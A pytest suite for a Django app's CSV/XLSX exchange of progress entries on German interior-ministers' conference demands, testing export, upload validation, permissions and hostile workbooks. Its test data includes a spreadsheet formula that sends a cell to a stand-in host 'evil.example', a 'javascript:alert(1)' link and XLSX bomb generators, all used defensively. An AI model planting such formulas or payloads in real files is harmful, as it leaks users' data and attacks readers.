"""Table exchange: a Land's entries as CSV or XLSX, downloaded, edited in Excel, uploaded again."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from beschluesse.models import Conference, Demand
from erfolgskontrolle.models import Implementation, ProgressEntry, Source
from intmk.models import User
from tests.conftest import client_for
from tests.erfolgskontrolle.xlsx_bombs import far_column, shared_strings_bomb
from tests.factories import make_clause, make_conference, make_demand, make_entry, make_resolution

HEADERS = [
    "Forderungs-ID",
    "Konferenz",
    "TOP",
    "Ziffer",
    "Adressat",
    "Wortlaut",
    "Federführend",
    "Land",
    "Stand vom (TT.MM.JJJJ)",
    "Haltung",
    "Umsetzung",
    "Sachstand",
    "Belege",
    "Letzter Eintrag (nicht ändern)",
]
COL = {header: index for index, header in enumerate(HEADERS)}
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'


def make_demands(
    conference: Conference, *, lead: str, count: int, top: str = "3.3"
) -> list[Demand]:
    resolution = make_resolution(conference=conference, top=top, lead=lead, applicants=[lead])
    clause = make_clause(resolution=resolution, number="1", text="Die IntMK fordert den Bund auf …")
    return [
        make_demand(clause=clause, wording=f"fordert den Bund auf, Maßnahme {i} umzusetzen")
        for i in range(count)
    ]


@pytest.fixture
def berlin_demands(conference_19: Conference) -> list[Demand]:
    return make_demands(conference_19, lead="DE-BE", count=3)


def export_url(code: str = "DE-BE", file_format: str = "csv") -> str:
    return reverse(
        "erfolgskontrolle:export", kwargs={"land_code": code, "file_format": file_format}
    )


def import_url(code: str = "DE-BE") -> str:
    return reverse("erfolgskontrolle:import", kwargs={"land_code": code})


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def write_csv(rows: list[list[str]], *, encoding: str = "utf-8-sig", delimiter: str = ";") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


def export_csv(client: Client, code: str = "DE-BE") -> list[list[str]]:
    response = client.get(export_url(code, "csv"))
    assert response.status_code == 200
    return read_csv(response.content)


def upload(client: Client, content: bytes, *, code: str = "DE-BE", name: str = "tabelle.csv"):  # type: ignore[no-untyped-def]
    return client.post(import_url(code), {"file": SimpleUploadedFile(name, content)})


def row_for(rows: list[list[str]], demand: Demand) -> list[str]:
    return next(row for row in rows if row[0] == str(demand.pk))


def fill(row: list[str], **values: str) -> None:
    names = {
        "date": "Stand vom (TT.MM.JJJJ)",
        "stance": "Haltung",
        "implementation": "Umsetzung",
        "text": "Sachstand",
        "links": "Belege",
        "land": "Land",
    }
    for key, value in values.items():
        row[COL[names[key]]] = value


def errors(response) -> list[str]:  # type: ignore[no-untyped-def]
    return list(response.context["form"].errors["file"])


# Export ---------------------------------------------------------------------------------------


def test_it_exports_csv_with_bom_semicolons_and_the_lands_newest_entry(
    official_berlin: User, official_bayern: User, berlin_demands: list[Demand]
) -> None:
    first = berlin_demands[0]
    make_entry(
        demand=first, author=official_berlin, text="Alt.", fact_date=datetime.date(2024, 5, 1)
    )
    make_entry(
        demand=first,
        author=official_berlin,
        stance="zugestimmt",
        implementation="in Umsetzung",
        text="Gesetzentwurf liegt vor.\nZweite Zeile; mit Semikolon.",
        fact_date=datetime.date(2024, 9, 1),
        links=[("https://dip.bundestag.de/drucksache/20-1234", "BT-Drs. 20/1234")],
    )
    bayern = make_entry(
        demand=first, author=official_bayern, land_code="DE-BY", text="Bayern sagt etwas."
    )

    response = client_for(official_berlin).get(export_url())

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert "sachstaende-DE-BE-" in response["Content-Disposition"]
    rows = read_csv(response.content)
    assert rows[0] == HEADERS
    assert len(rows) == 4
    assert row_for(rows, first) == [
        str(first.pk),
        "19. IntMK 2024",
        "3.3",
        "1",
        "Bund",
        "fordert den Bund auf, Maßnahme 0 umzusetzen",
        "Berlin",
        "Berlin",
        "01.09.2024",
        "zugestimmt",
        "in Umsetzung",
        "Gesetzentwurf liegt vor.\nZweite Zeile; mit Semikolon.",
        "BT-Drs. 20/1234 | https://dip.bundestag.de/drucksache/20-1234",
        str(bayern.pk),  # the demand's newest entry of any Land: what the row was made from
    ]
    assert row_for(rows, berlin_demands[1])[COL["Land"] :] == ["Berlin", "", "", "", "", "", ""]


def test_it_exports_xlsx_with_the_same_columns_as_text_cells(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    entry = make_entry(demand=berlin_demands[0], author=official_berlin, text="Der Bund prüft.")

    response = client_for(official_berlin).get(export_url(file_format="xlsx"))

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADERS
    assert all(cell.font.bold for cell in sheet[1])
    assert len(rows) == 4
    first = next(row for row in rows if row[0] == berlin_demands[0].pk)
    assert first[COL["Land"] :] == [
        "Berlin",
        "01.09.2024",
        "in Prüfung",
        "offen",
        "Der Bund prüft.",
        None,
        entry.pk,
    ]
    assert sheet.cell(row=2, column=COL["Sachstand"] + 1).number_format == "@"
    assert sheet.column_dimensions["F"].width > sheet.column_dimensions["C"].width
    assert "Auswahllisten" in workbook.sheetnames


def test_it_neutralises_formula_cells_in_csv_and_gets_the_text_back_on_upload(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    demand = berlin_demands[0]
    make_entry(demand=demand, author=official_berlin, text=FORMULA)
    client = client_for(official_berlin)

    rows = export_csv(client)

    assert row_for(rows, demand)[COL["Sachstand"]] == "'" + FORMULA
    response = upload(client, write_csv(rows))
    assert response.status_code == 303
    assert ProgressEntry.objects.count() == 1  # the same text came back: unchanged

    row = row_for(rows, demand)
    fill(row, text="'" + "-12 % gegenüber 2023", date="02.09.2024")
    upload(client, write_csv(rows))
    assert ProgressEntry.objects.newest_first().first().text == "-12 % gegenüber 2023"  # type: ignore[union-attr]


@pytest.mark.parametrize("text", ["+49 30 1234", "@Bund", "\tEingerückt", "'=schon markiert"])
def test_it_round_trips_every_kind_of_formula_start_through_csv(
    official_berlin: User, berlin_demands: list[Demand], text: str
) -> None:
    make_entry(demand=berlin_demands[0], author=official_berlin, text=text)
    client = client_for(official_berlin)

    cell = row_for(export_csv(client), berlin_demands[0])[COL["Sachstand"]]

    assert cell.startswith("'")
    response = upload(client, client.get(export_url()).content)
    assert response.status_code == 303
    assert ProgressEntry.objects.count() == 1


def test_it_stores_formula_like_text_in_xlsx_as_a_string_and_gets_it_back(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    make_entry(demand=berlin_demands[0], author=official_berlin, text=FORMULA)
    client = client_for(official_berlin)

    content = client.get(export_url(file_format="xlsx")).content

    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cell = next(
        row[COL["Sachstand"]] for row in sheet.iter_rows() if row[0].value == berlin_demands[0].pk
    )
    assert cell.value == FORMULA
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert upload(client, content, name="tabelle.xlsx").status_code == 303
    assert ProgressEntry.objects.count() == 1


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_it_writes_nothing_when_an_unchanged_export_is_uploaded(
    official_berlin: User, berlin_demands: list[Demand], file_format: str
) -> None:
    make_entry(
        demand=berlin_demands[0],
        author=official_berlin,
        text="Erste Zeile\nzweite Zeile",
        links=[("https://example.org/a", "Pressemitteilung"), ("https://example.org/b", "Gesetz")],
    )
    client = client_for(official_berlin)
    content = client.get(export_url(file_format=file_format)).content

    response = upload(client, content, name=f"tabelle.{file_format}")

    assert response.status_code == 303
    assert response["Location"] == reverse("erfolgskontrolle:exchange") + "?land=DE-BE"
    assert ProgressEntry.objects.count() == 1
    page = client.get(response["Location"])
    assert "0 Sachstände übernommen, 1 unverändert, 2 Zeilen ohne Sachstand übergangen." in (
        page.content.decode()
    )


def test_it_writes_one_entry_for_one_changed_row(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    for demand in berlin_demands:
        make_entry(demand=demand, author=official_berlin)
    client = client_for(official_berlin)
    rows = export_csv(client)
    changed = berlin_demands[1]
    fill(
        row_for(rows, changed),
        date="15.10.2024",
        stance="ZUGESTIMMT",
        implementation="umgesetzt",
        text="Gesetz verkündet.",
        links="BGBl. 2024 I Nr. 5 | https://www.recht.bund.de/bgbl/1/2024/5\n\nPresse | http://example.org/p",
    )

    response = upload(client, write_csv(rows))

    assert response.status_code == 303
    assert ProgressEntry.objects.count() == 4
    entry = ProgressEntry.objects.newest_first().first()
    assert entry is not None
    assert entry.demand == changed
    assert entry.land.code == "DE-BE"
    assert entry.author == official_berlin
    assert entry.source == Source.UPLOAD
    assert entry.on_behalf is False
    assert entry.fact_date == datetime.date(2024, 10, 15)
    assert entry.stance.name == "zugestimmt"
    assert entry.implementation.name == "umgesetzt"
    assert entry.text == "Gesetz verkündet."
    assert [(link.label, link.url) for link in entry.links.all()] == [
        ("BGBl. 2024 I Nr. 5", "https://www.recht.bund.de/bgbl/1/2024/5"),
        ("Presse", "http://example.org/p"),
    ]
    page = client.get(response["Location"])
    assert "1 Sachstand übernommen, 2 unverändert." in page.content.decode()


def test_it_accepts_a_link_typed_with_an_upper_case_scheme(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    client = client_for(official_berlin)
    rows = export_csv(client)
    fill(
        row_for(rows, berlin_demands[0]),
        date="15.10.2024",
        stance="zugestimmt",
        implementation="umgesetzt",
        text="Gesetz verkündet.",
        links="Bundesgesetzblatt | HTTPS://www.recht.bund.de/bgbl/1/2024/5",
    )

    response = upload(client, write_csv(rows))

    assert response.status_code == 303
    link = ProgressEntry.objects.get().links.get()
    assert link.url == "https://www.recht.bund.de/bgbl/1/2024/5"


def test_it_refuses_a_sachstand_longer_than_the_form_allows(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    client = client_for(official_berlin)
    rows = export_csv(client)
    fill(
        row_for(rows, berlin_demands[0]),
        date="15.10.2024",
        stance="zugestimmt",
        implementation="umgesetzt",
        text="x" * 5001,
    )

    response = upload(client, write_csv(rows))

    assert response.status_code == 400
    assert any("5001 Zeichen lang; höchstens 5000" in error for error in errors(response))
    assert not ProgressEntry.objects.exists()


def test_it_writes_new_entries_for_demands_without_one(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    client = client_for(official_berlin)
    rows = export_csv(client)
    for demand in berlin_demands[:2]:
        fill(
            row_for(rows, demand),
            date="1.9.2024",
            stance="in Prüfung",
            implementation="offen",
            text="Neu.",
        )

    response = upload(client, write_csv(rows))

    assert response.status_code == 303
    assert ProgressEntry.objects.filter(source=Source.UPLOAD).count() == 2
    assert set(ProgressEntry.objects.values_list("fact_date", flat=True)) == {
        datetime.date(2024, 9, 1)
    }


def test_it_reads_an_xlsx_edited_with_dates_typed_as_dates(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    client = client_for(official_berlin)
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get(export_url(file_format="xlsx")).content)
    )
    sheet = workbook.worksheets[0]
    sheet.cell(row=2, column=COL["Stand vom (TT.MM.JJJJ)"] + 1).value = datetime.date(2024, 8, 30)
    sheet.cell(row=2, column=COL["Haltung"] + 1).value = "abgelehnt"
    sheet.cell(row=2, column=COL["Umsetzung"] + 1).value = "nicht umgesetzt"
    sheet.cell(row=2, column=COL["Sachstand"] + 1).value = "Der Bund lehnt ab."
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = upload(client, buffer.getvalue(), name="bearbeitet.xlsx")

    assert response.status_code == 303
    entry = ProgressEntry.objects.get()
    assert entry.demand_id == sheet.cell(row=2, column=1).value
    assert entry.fact_date == datetime.date(2024, 8, 30)
    assert entry.implementation.name == "nicht umgesetzt"


# Validation -----------------------------------------------------------------------------------


def test_it_refuses_the_whole_file_when_one_row_is_bad(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    client = client_for(official_berlin)
    rows = export_csv(client)
    fill(rows[1], date="01.09.2024", stance="zugestimmt", implementation="offen", text="Gut.")
    fill(rows[2], date="01.09.2024", stance="zugestimmt", implementation="fertig", text="Schlecht.")
    fill(rows[3], date="01.09.2024", stance="zugestimmt", implementation="offen", text="Auch gut.")

    response = upload(client, write_csv(rows))

    assert response.status_code == 400
    assert ProgressEntry.objects.count() == 0
    allowed = ", ".join(Implementation.objects.filter(active=True).values_list("name", flat=True))
    assert errors(response) == [f"Zeile 3: Umsetzung „fertig“ ist unbekannt. Erlaubt: {allowed}."]
    html = response.content.decode()
    assert "Zeile 3: Umsetzung „fertig“ ist unbekannt." in html
    assert "es wurde nichts gespeichert" in html
    assert 'aria-describedby="id_file_hinweis id_file_fehler"' in html


def test_it_lists_every_error_with_its_row_number(
    official_berlin: User, conference_19: Conference, berlin_demands: list[Demand]
) -> None:
    foreign = make_demands(conference_19, lead="DE-BY", count=1, top="4.1")[0]
    client = client_for(official_berlin)
    rows = export_csv(client)
    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
    good = {"date": "01.09.2024", "stance": "zugestimmt", "implementation": "offen", "text": "Ok."}
    fill(rows[1], **{**good, "land": "Bayern"})
    fill(rows[2], **{**good, "date": "31.02.2024"})
    fill(rows[3], **{**good, "date": tomorrow.strftime("%d.%m.%Y"), "text": ""})
    extra = [
        [str(foreign.pk), *[""] * 6, "Berlin", "01.09.2024", "zugestimmt", "offen", "Ok.", ""],
        ["999999", *[""] * 6, "Berlin", "01.09.2024", "zugestimmt", "offen", "Ok.", ""],
        [rows[1][0], *[""] * 6, "DE-BE", "2024-09-01", "", "offen", "Ok.", "nur eine Adresse"],
        ["", *[""] * 6, "Berlin", "September", "ja", "offen", "Ok.", "Seite | javascript:alert(1)"],
    ]

    response = upload(client, write_csv(rows + extra))

    assert response.status_code == 400
    assert ProgressEntry.objects.count() == 0
    stances = "keine Stellungnahme, zugestimmt, teilweise zugestimmt, in Prüfung, abgelehnt"
    assert errors(response) == [
        "Zeile 2: Land „Bayern“ passt nicht: hier werden nur Sachstände von Berlin hochgeladen.",
        "Zeile 3: Stand vom „31.02.2024“ ist kein gültiges Datum.",
        f"Zeile 4: Stand vom {tomorrow:%d.%m.%Y} liegt in der Zukunft.",
        "Zeile 4: Sachstand fehlt.",
        f"Zeile 5: Die Forderung „{foreign.pk}“ gibt es nicht in der Tabelle von Berlin.",
        "Zeile 6: Die Forderung „999999“ gibt es nicht in der Tabelle von Berlin.",
        f"Zeile 7: Die Forderung {rows[1][0]} steht schon in Zeile 2.",
        f"Zeile 7: Haltung fehlt. Erlaubt: {stances}.",
        "Zeile 7: Beleg „nur eine Adresse“ hat nicht die Form „Bezeichnung | https://…“ "
        "(ein Beleg pro Zeile).",
        "Zeile 8: Forderungs-ID fehlt.",
        "Zeile 8: Stand vom „September“ hat nicht das Format TT.MM.JJJJ.",
        f"Zeile 8: Haltung „ja“ ist unbekannt. Erlaubt: {stances}.",
        "Zeile 8: Beleg „Seite“: „javascript:alert(1)“ ist keine gültige Adresse (https://…).",
    ]


def test_it_refuses_a_retired_vocabulary_name(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    Implementation.objects.filter(name="offen").update(active=False)
    client = client_for(official_berlin)
    rows = export_csv(client)
    fill(rows[1], date="01.09.2024", stance="zugestimmt", implementation="offen", text="Alt.")

    response = upload(client, write_csv(rows))

    assert response.status_code == 400
    assert errors(response)[0].startswith("Zeile 2: Umsetzung „offen“ ist unbekannt.")


def test_it_accepts_a_cp1252_csv_with_commas(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    client = client_for(official_berlin)
    rows = export_csv(client)
    fill(
        rows[1],
        date="01.09.2024",
        stance="in Prüfung",
        implementation="offen",
        text="Größere Maßnahmen – geprüft",
    )

    response = upload(client, write_csv(rows, encoding="cp1252", delimiter=","))

    assert response.status_code == 303
    assert ProgressEntry.objects.get().text == "Größere Maßnahmen – geprüft"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "Die Datei ist leer."),
        (b"   \r\n", "Die Datei ist leer."),
        (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00",
            "weder eine Excel-Datei (XLSX) noch eine CSV-Datei",
        ),
        (b"PK\x03\x04kaputt", "Die Excel-Datei (XLSX) ist beschädigt"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1alt", "im alten Excel-Format (.xls)"),
        (
            b"Name;Wert\nA;1\n",
            "es fehlen die Spalten „Forderungs-ID“, „Land“, „Stand vom (TT.MM.JJJJ)“",
        ),
    ],
)
def test_it_refuses_files_that_are_not_the_exchange_table(
    official_berlin: User, berlin_demands: list[Demand], content: bytes, message: str
) -> None:
    response = upload(client_for(official_berlin), content)

    assert response.status_code == 400
    assert message in " ".join(errors(response))
    assert ProgressEntry.objects.count() == 0


def test_it_refuses_a_file_larger_than_5_mb(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    content = ";".join(HEADERS).encode() + b"\r\n" + b"x" * (5 * 1024 * 1024)

    response = upload(client_for(official_berlin), content)

    assert response.status_code == 400
    assert errors(response) == [
        "Die Datei ist größer als 5 MB. Bitte nur die Zeilen mit Sachständen hochladen oder die "
        "Tabelle teilen."
    ]


def test_it_refuses_an_upload_without_a_file(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    response = client_for(official_berlin).post(import_url(), {})

    assert response.status_code == 400
    assert errors(response) == ["Bitte eine Datei auswählen."]


# Permissions ----------------------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["no_role", "official_bayern"])
def test_it_refuses_export_of_berlin_to_others(
    request: pytest.FixtureRequest, berlin_demands: list[Demand], persona: str
) -> None:
    client = client_for(request.getfixturevalue(persona))

    assert client.get(export_url(file_format="csv")).status_code == 403
    assert client.get(export_url(file_format="xlsx")).status_code == 403


@pytest.mark.parametrize("persona", ["reader", "no_role", "official_bayern"])
def test_it_refuses_upload_for_berlin_from_others(
    request: pytest.FixtureRequest,
    official_berlin: User,
    berlin_demands: list[Demand],
    persona: str,
) -> None:
    rows = export_csv(client_for(official_berlin))
    fill(rows[1], date="01.09.2024", stance="zugestimmt", implementation="offen", text="Gefälscht.")

    response = upload(client_for(request.getfixturevalue(persona)), write_csv(rows))

    assert response.status_code == 403
    assert ProgressEntry.objects.count() == 0


def test_it_refuses_the_exchange_page_without_a_role(no_role: User) -> None:
    response = client_for(no_role).get(reverse("erfolgskontrolle:exchange"))

    assert response.status_code == 403


def test_it_lets_readers_download_any_lands_table(
    reader: User, berlin_demands: list[Demand]
) -> None:
    client = client_for(reader)

    rows = export_csv(client)

    assert {row[COL["Forderungs-ID"]] for row in rows[1:]} == {str(d.pk) for d in berlin_demands}
    assert client.get(export_url(file_format="xlsx")).status_code == 200


def test_it_shows_readers_the_download_but_no_upload_and_no_call_to_enter(
    reader: User, berlin_demands: list[Demand]
) -> None:
    response = client_for(reader).get(reverse("erfolgskontrolle:exchange") + "?land=DE-BE")

    html = response.content.decode()
    assert response.status_code == 200
    assert export_url(file_format="xlsx") in html
    assert "3 Forderungen in der Tabelle." in html
    assert import_url() not in html
    assert "hochladen" not in html.lower()
    assert "tragen Sie" not in html
    assert "im Auftrag" not in html


def test_it_sends_anonymous_users_to_the_login(
    anonymous: Client, berlin_demands: list[Demand]
) -> None:
    login = reverse("login")
    for response in [
        anonymous.get(reverse("erfolgskontrolle:exchange")),
        anonymous.get(export_url()),
        anonymous.post(import_url(), {"file": SimpleUploadedFile("t.csv", b"x")}),
    ]:
        assert response.status_code == 302
        assert response["Location"].startswith(login)
    assert ProgressEntry.objects.count() == 0


def test_it_refuses_get_on_the_upload_url(official_berlin: User) -> None:
    assert client_for(official_berlin).get(import_url()).status_code == 405


def test_it_answers_404_for_unknown_lands_and_formats(official_berlin: User) -> None:
    client = client_for(official_berlin)

    assert client.get(export_url("DE-XX")).status_code == 404
    assert client.get(export_url(file_format="pdf")).status_code == 404


def test_secretariat_uploads_on_behalf_only_for_its_conference(
    secretariat: User, official_berlin: User, berlin_demands: list[Demand]
) -> None:
    older = make_conference(number=18, year=2023, chair="DE-HE")
    other = make_demands(older, lead="DE-BE", count=1, top="2.3")[0]
    client = client_for(secretariat)
    rows = export_csv(client)
    assert {row[0] for row in rows[1:]} == {str(d.pk) for d in berlin_demands}
    fill(
        rows[1], date="01.09.2024", stance="zugestimmt", implementation="offen", text="Im Auftrag."
    )

    forged = [[str(other.pk), *[""] * 6, "Berlin", "01.09.2024", "zugestimmt", "offen", "X", ""]]
    refused = upload(client, write_csv(rows + forged))
    accepted = upload(client, write_csv(rows))

    assert refused.status_code == 400
    assert errors(refused) == [
        f"Zeile 5: Die Forderung „{other.pk}“ gibt es nicht in der Tabelle von Berlin."
    ]
    assert accepted.status_code == 303
    entry = ProgressEntry.objects.get()
    assert (entry.author, entry.land.code, entry.on_behalf) == (secretariat, "DE-BE", True)


def test_admin_uploads_on_behalf_of_any_land(
    admin_user: User, berlin_demands: list[Demand]
) -> None:
    client = client_for(admin_user)
    rows = export_csv(client)
    fill(rows[1], date="01.09.2024", stance="zugestimmt", implementation="offen", text="Admin.")

    assert upload(client, write_csv(rows)).status_code == 303
    assert ProgressEntry.objects.get().on_behalf is True


# The page -------------------------------------------------------------------------------------


def test_the_page_offers_the_officials_own_land(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    response = client_for(official_berlin).get(reverse("erfolgskontrolle:exchange"))

    html = response.content.decode()
    assert response.status_code == 200
    assert "Tabelle von Berlin" in html
    assert "3 Forderungen in der Tabelle" in html
    assert export_url(file_format="xlsx") in html
    assert export_url(file_format="csv") in html
    assert "Als Excel-Datei (XLSX) herunterladen" in html
    assert f'action="{import_url()}"' in html
    assert '<label class="kern-label" for="id_file">' in html
    assert 'name="land"' not in html


def test_the_page_lets_the_secretariat_choose_a_land(
    secretariat: User, berlin_demands: list[Demand]
) -> None:
    client = client_for(secretariat)
    url = reverse("erfolgskontrolle:exchange")

    chooser = client.get(url).content.decode()
    chosen = client.get(url, {"land": "DE-BE"}).content.decode()
    fragment = client.get(url, {"land": "DE-BE"}, headers={"HX-Request": "true"}).content.decode()

    assert '<select class="kern-form-input__select" id="id_land" name="land"' in chooser
    assert "Tabelle von" not in chooser
    assert f'action="{import_url()}"' in chosen
    assert "<h1" not in fragment and "Tabelle von Berlin" in fragment


def test_an_official_may_not_choose_another_land_on_the_page(official_berlin: User) -> None:
    response = client_for(official_berlin).get(
        reverse("erfolgskontrolle:exchange"), {"land": "DE-BY"}
    )

    assert response.status_code == 403


# Query counts ---------------------------------------------------------------------------------


def _demands_with_entries(conference: Conference, author: User, count: int) -> None:
    for demand in make_demands(conference, lead="DE-BE", count=count, top=f"5.{count}"):
        make_entry(demand=demand, author=author, links=[("https://example.org/", "Beleg")])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_export_needs_the_same_queries_for_5_and_40_demands(
    official_berlin: User,
    conference_19: Conference,
    django_assert_max_num_queries,  # type: ignore[no-untyped-def]
    file_format: str,
) -> None:
    client = client_for(official_berlin)
    _demands_with_entries(conference_19, official_berlin, 5)
    with django_assert_max_num_queries(10) as small:
        assert len(client.get(export_url(file_format=file_format)).content) > 0
    _demands_with_entries(conference_19, official_berlin, 35)
    with django_assert_max_num_queries(len(small.captured_queries)) as large:
        response = client.get(export_url(file_format=file_format))
    assert response.status_code == 200
    assert len(large.captured_queries) == len(small.captured_queries)


def test_the_upload_check_needs_the_same_queries_for_5_and_40_unchanged_rows(
    official_berlin: User,
    conference_19: Conference,
    django_assert_max_num_queries,  # type: ignore[no-untyped-def]
) -> None:
    client = client_for(official_berlin)
    _demands_with_entries(conference_19, official_berlin, 5)
    small_file = client.get(export_url()).content
    with django_assert_max_num_queries(12) as small:
        assert upload(client, small_file).status_code == 303
    small_count = len(small.captured_queries)  # the next request clears Django's query log
    _demands_with_entries(conference_19, official_berlin, 35)
    large_file = client.get(export_url()).content
    with django_assert_max_num_queries(small_count):
        assert upload(client, large_file).status_code == 303
    assert ProgressEntry.objects.count() == 40


def test_the_page_needs_the_same_queries_for_5_and_40_demands(
    official_berlin: User,
    conference_19: Conference,
    django_assert_max_num_queries,  # type: ignore[no-untyped-def]
) -> None:
    client = client_for(official_berlin)
    url = reverse("erfolgskontrolle:exchange")
    _demands_with_entries(conference_19, official_berlin, 5)
    with django_assert_max_num_queries(8) as small:
        client.get(url)
    _demands_with_entries(conference_19, official_berlin, 35)
    with django_assert_max_num_queries(len(small.captured_queries)):
        assert "40 Forderungen" in client.get(url).content.decode()


# Hostile workbooks (issue 10): bounded before openpyxl parses them ------------------------------


def test_it_refuses_an_xlsx_with_millions_of_shared_strings(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    response = upload(client_for(official_berlin), shared_strings_bomb(), name="bombe.xlsx")

    assert response.status_code == 400
    assert ProgressEntry.objects.count() == 0
    assert errors(response) == [
        "Die Excel-Datei enthält weit mehr Zellen oder Texte, als eine Tabelle mit höchstens "
        "5000 Zeilen und den Spalten der Austauschtabelle haben kann. Bitte die Tabelle von "
        "dieser Seite herunterladen, nur die Sachstände eintragen und erneut hochladen."
    ]


def test_it_refuses_an_xlsx_with_more_cells_than_a_table_can_have(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    content = far_column(rows=5000, cells_per_row=25)

    response = upload(client_for(official_berlin), content, name="breit.xlsx")

    assert response.status_code == 400
    assert "weit mehr Zellen oder Texte" in errors(response)[0]
    assert ProgressEntry.objects.count() == 0


def test_it_reads_only_the_tables_columns_of_an_xlsx_with_a_cell_in_column_xfd(
    official_berlin: User, berlin_demands: list[Demand]
) -> None:
    response = upload(client_for(official_berlin), far_column(rows=5000), name="xfd.xlsx")

    assert response.status_code == 303  # the far cells are outside the table: empty rows
    assert ProgressEntry.objects.count() == 0
